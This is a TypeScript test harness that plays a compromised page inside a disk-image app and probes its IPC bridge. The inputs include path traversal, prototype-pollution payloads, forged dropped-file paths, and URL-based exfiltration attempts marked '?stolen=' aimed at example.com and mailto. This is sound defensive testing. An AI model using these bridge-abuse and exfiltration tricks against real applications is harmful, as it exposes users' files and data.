/** What a page does that somebody else's script has got into. Each function runs in the page: it may use nothing else of this file. */

/** What became of one attempt: `ok`, the code of a refusal, or what the bridge itself threw. */
export interface Attempt {
  readonly call: string;
  readonly outcome: string;
}

/** What the page knows and what it is after. */
export interface Prey {
  /** handle of an image that is open */
  readonly own: string;
  /** handle of an image that was closed */
  readonly closed: string;
  /** path of a file that nobody gave to the app */
  readonly canary: string;
}

/** Calls every method that main has with everything that is no argument of it. */
export async function sendNonsense({ own, closed, canary }: Prey): Promise<readonly Attempt[]> {
  type Ask = (...args: readonly unknown[]) => Promise<{
    ok: boolean;
    error?: { code: string; fields: { expected?: string } };
  }>;
  const { platter } = globalThis as unknown as { platter: Record<'app' | 'image' | 'drop', Ask> };
  const attempts: Attempt[] = [];
  const attempt = async (call: string, ask: () => ReturnType<Ask>): Promise<void> => {
    const outcome = await (async () => ask())().then(
      ({ ok, error }) => (ok ? 'ok' : (error?.code ?? 'no code')),
      (error: unknown) => `thrown: ${String(error)}`,
    );
    attempts.push({ call, outcome });
  };
  /** Names of all methods: the refusal of a wrong one lists them. */
  const methods = async (ask: () => ReturnType<Ask>): Promise<string[]> =>
    [...((await ask()).error?.fields.expected ?? '').matchAll(/"([^"]+)"/g)].map(([, name]) => name);
  const appMethods = await methods(() => platter.app('?', {}));
  const imageMethods = await methods(() => platter.image(own, '?', {}));

  const wild: readonly (readonly [string, unknown])[] = [
    ['nothing', undefined],
    ['null', null],
    ['a text', canary],
    ['a number', 42],
    ['NaN', Number.NaN],
    ['2^53', 2 ** 53],
    ['a truth', true],
    ['a list', [canary]],
    ['a path', { path: canary }],
    [
      'paths everywhere',
      { handle: canary, file: canary, id: canary, target: canary, job: canary, theme: canary },
    ],
    [
      'other types',
      { handle: {}, file: [], id: 1, target: null, job: true, offset: '0', text: 7, theme: [] },
    ],
    ['more than asked', { handle: own, path: canary, extra: 1 }],
    ['__proto__', JSON.parse('{"__proto__":{"handle":"image-1","polluted":true},"more":1}')],
    ['constructor', { constructor: { prototype: { polluted: true } } }],
    [
      'numbers beyond all',
      { offset: -1, length: 2 ** 53, first: Number.NaN, cluster: -1, start: 0.5, size: -1 },
    ],
    ['a long text', { handle: 'x'.repeat(1 << 20), text: { long: 'x'.repeat(1 << 20) } }],
  ];
  for (const [name, params] of wild) {
    for (const method of appMethods)
      await attempt(`app ${method} ${name}`, () => platter.app(method, params));
    for (const method of imageMethods)
      await attempt(`image ${method} ${name}`, () => platter.image(own, method, params, 'job-1'));
  }
  for (const name of [
    canary,
    '__proto__',
    'constructor',
    'toString',
    '',
    'open',
    'close',
    'create',
    'encode',
    'x'.repeat(1 << 20),
  ]) {
    await attempt(`app method ${name.slice(0, 20)}`, () => platter.app(name, {}));
    await attempt(`image method ${name.slice(0, 20)}`, () => platter.image(own, name, {}));
  }
  for (const handle of [
    closed,
    'image-0',
    'image-999999',
    canary,
    '__proto__',
    `${own}\n`,
    '',
    7,
    null,
    [own],
    { own },
  ])
    for (const method of imageMethods)
      await attempt(`image ${method} of ${JSON.stringify(handle)}`, () =>
        platter.image(handle, method, {}, 'job-1'),
      );
  for (const job of [canary, 'job-../../x', 'job-\u0000', '__proto__', 7, {}, `job-${'x'.repeat(100)}`])
    await attempt(`job ${JSON.stringify(job)}`, () => platter.image(own, 'check', { deep: false }, job));
  for (const target of ['file-1', 'file-999999', canary, '../x', '', 1, { path: canary }, [canary]])
    for (const method of ['copyImage', 'exportRaw', 'saveMetadata', 'saveReport'])
      await attempt(`image ${method} to ${JSON.stringify(target)}`, () =>
        platter.image(own, method, { target }, 'job-1'),
      );
  for (const method of ['openCopy', 'revealFile'])
    for (const file of ['file-1', canary])
      await attempt(`app ${method} ${file}`, () => platter.app(method, { file }));
  for (const id of [canary, '../settings', '0'.repeat(32), 'x'.repeat(1 << 20)]) {
    await attempt(`app openRecent ${id.slice(0, 40)}`, () => platter.app('openRecent', { id }));
    await attempt(`image removeUndo ${id.slice(0, 40)}`, () => platter.image(own, 'removeUndo', { id }));
  }
  for (const handle of [closed, 'image-999999'])
    for (const method of ['closeImage', 'reveal', 'allowNamedFiles', 'history'])
      await attempt(`app ${method} ${handle}`, () => platter.app(method, { handle }));
  const backing = { file: 'file-1', format: 'raw' };
  const options = { size: 2 ** 40, version: 3, clusterBits: 16, refcountBits: 16, lazyRefcounts: false };
  const made = { ...options, extendedL2: false, compressionType: 'zlib', preallocation: 'off' };
  for (const target of ['file-1', canary])
    await attempt(`app createImage at ${target}`, () =>
      platter.app('createImage', { target, backing, dataFile: true, options: made, job: 'job-1' }),
    );
  const encoded = {
    clusterBits: 16,
    lazyRefcounts: false,
    extendedL2: false,
    compressionType: 'zlib',
  };
  for (const file of ['file-1', 'file-999999', canary, '../x']) {
    await attempt(`app lookAtRaw ${file}`, () => platter.app('lookAtRaw', { file }));
    await attempt(`app chooseTarget beside ${file}`, () =>
      platter.app('chooseTarget', { purpose: 'image', raw: file }),
    );
    for (const target of ['file-1', canary])
      await attempt(`app encodeRaw of ${file} at ${target}`, () =>
        platter.app('encodeRaw', { raw: file, target, options: encoded, job: 'job-1' }),
      );
  }
  await attempt('app copyText of 65 MiB', () => platter.app('copyText', { text: 'x'.repeat(65 << 20) }));
  for (const files of [undefined, null, canary, { length: 1, 0: canary }, 7])
    await attempt(`drop ${JSON.stringify(files)?.slice(0, 40)}`, () => platter.drop(files));
  return attempts;
}

/** Asks an open image for what lies at the edge of numbers or behind it. */
export async function askBeyond(own: string): Promise<readonly Attempt[]> {
  const { platter } = globalThis as unknown as {
    platter: {
      image(
        handle: string,
        method: string,
        params: object,
      ): Promise<{ ok: boolean; error?: { code: string } }>;
    };
  };
  const numbers = [0, -1, -0.5, Number.NaN, Infinity, 2 ** 31, 2 ** 32, 2 ** 53 - 1, 2 ** 53, 1e300];
  const attempts: Attempt[] = [];
  const space = 'host';
  const kinds = 2 ** 25 - 1;
  for (const a of numbers)
    for (const b of numbers)
      for (const [method, params] of [
        ['bytes', { offset: a, length: b }],
        ['bins', { space, level: 0, first: a, count: b }],
        ['bins', { space: 'guest', level: 40, first: a, count: b }],
        ['inspect', { space, cluster: a }],
        ['project', { space, start: a, count: b }],
        ['project', { space: 'guest', start: a, count: b }],
        ['seek', { space, from: a, direction: 'next', kinds }],
        ['seek', { space: 'guest', from: a, direction: 'previous', kinds }],
        ['extents', { space, kinds, sort: 'start', descending: false, offset: a, limit: b }],
        [
          'extents',
          {
            space,
            kinds,
            sort: 'start',
            descending: true,
            offset: 0,
            limit: 10,
            within: { start: a, count: b },
          },
        ],
        ['findings', { offset: a, limit: b }],
      ] as const) {
        const { ok, error } = await platter.image(own, method, params);
        attempts.push({ call: `${method} ${a} ${b}`, outcome: ok ? 'ok' : (error?.code ?? 'no code') });
      }
  return attempts;
}

/** Listens to everything, often; returns which names it heard while the settings changed twice. */
export async function listenToEverything(): Promise<readonly string[]> {
  const { platter } = globalThis as unknown as {
    platter: {
      on(event: unknown, listener: unknown): () => void;
      app(method: string, params: object): Promise<unknown>;
    };
  };
  const heard: string[] = [];
  for (const event of [
    '*',
    'platter:event',
    '__proto__',
    'constructor',
    'toString',
    '',
    'theme ',
    null,
    undefined,
    7,
    {},
  ])
    platter.on(event, () => heard.push(String(event)));
  const offs = Array.from({ length: 500 }, () => platter.on('settings', () => heard.push('settings')));
  await platter.app('changeSettings', { theme: 'dark' });
  await new Promise((resolve) => setTimeout(resolve, 100));
  for (const off of offs) off();
  const before = heard.length;
  await platter.app('changeSettings', { theme: 'light' });
  await new Promise((resolve) => setTimeout(resolve, 100));
  return before === 500 ? heard : [...heard, `${before} of 500`];
}

/** Tries to pass paths off as files of a drop; returns what main was made to open. */
export async function dropForgeries(canary: string): Promise<unknown> {
  const { platter } = globalThis as unknown as {
    platter: { drop(files: unknown): Promise<{ ok: boolean; value?: readonly unknown[] }> };
  };
  const file = new File(['x'], canary);
  Object.defineProperty(file, 'path', { value: canary });
  class Forged extends File {
    path = canary;
  }
  Object.defineProperty(File.prototype, 'path', { get: () => canary, configurable: true });
  const lists = [
    [file],
    [new Forged(['x'], canary)],
    [Object.setPrototypeOf({ path: canary }, File.prototype)],
    [{ path: canary }],
    [canary],
    [[canary]],
    Object.assign([], { map: () => [canary] }),
    Object.assign([file], { filter: () => [canary] }),
  ];
  const opened: unknown[] = [];
  for (const list of lists) {
    const reply = await platter.drop(list).catch(() => ({ ok: false, value: [] }));
    if (reply.ok) opened.push(...(reply.value ?? []));
  }
  return opened;
}

/** What frames inside of the page get of the bridge. */
export async function lookFromFrames(): Promise<readonly string[]> {
  const sources = ['about:blank', 'app://platter/index.html', 'data:text/html,x', 'blob:app://platter/x'];
  const frames = sources.map((src) => Object.assign(document.createElement('iframe'), { src }));
  frames.push(Object.assign(document.createElement('iframe'), { srcdoc: '<p>x' }));
  document.body.append(...frames);
  await new Promise((resolve) => setTimeout(resolve, 300));
  const reached = frames.map((frame) => {
    try {
      return frame.contentWindow !== null && 'platter' in frame.contentWindow ? 'bridge' : 'nothing';
    } catch {
      return 'nothing';
    }
  });
  for (const frame of frames) frame.remove();
  return reached;
}

/** Writes what it has read into addresses, and tries each way of having one opened; what came of each window. */
export function sendByAddresses(): readonly string[] {
  const addresses = [
    'https://www.qemu.org/docs/master/interop/qcow2.html',
    'https://www.qemu.org/docs/',
    'https://gitlab.com/qemu-project/qemu/',
    'https://example.com/',
    'mailto:somebody@example.com',
  ];
  const outcomes: string[] = [];
  for (let part = 0; part < 50; part++)
    for (const address of addresses) {
      const url = `${address}?stolen=${part}#${part}`;
      outcomes.push(window.open(url, '_blank') === null ? 'no window' : 'a window');
      if (part > 2) continue;
      const link = Object.assign(document.createElement('a'), { href: url, target: '_blank' });
      const form = Object.assign(document.createElement('form'), { action: url, target: '_blank' });
      document.body.append(link, form);
      link.click();
      form.submit();
      link.remove();
      form.remove();
    }
  return outcomes;
}
